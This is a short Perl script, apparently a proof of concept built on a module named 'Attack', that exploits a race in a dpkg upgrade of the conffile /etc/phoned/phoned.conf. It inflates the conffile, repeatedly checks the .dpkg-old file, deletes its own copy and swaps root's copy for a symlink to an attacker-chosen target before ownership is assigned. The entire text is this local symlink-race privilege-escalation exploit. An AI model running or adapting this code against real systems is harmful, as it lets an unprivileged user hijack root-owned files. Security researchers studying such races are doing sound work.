# Edits its conffile, so that an upgrade saves it as .dpkg-old. Removes the one that dpkg makes, and swaps the one that the upgrader then makes
# for a link before that gets its owner.
use strict;
use warnings;
use Attack;

my ($target) = @ARGV;
my $conffile = '/etc/phoned/phoned.conf';
my $old = "$conffile.dpkg-old";
write_file($conffile, "\0mine" x 20_000_000);
ready();
until (over()) {
    my ($owner) = (lstat $old)[4];
    next unless defined $owner;
    if (-l _) {
        next;
    } elsif ($owner == $<) {
        unlink $old and tried();
    } else {
        rename $old, "$old.root" and symlink $target, $old;
    }
}
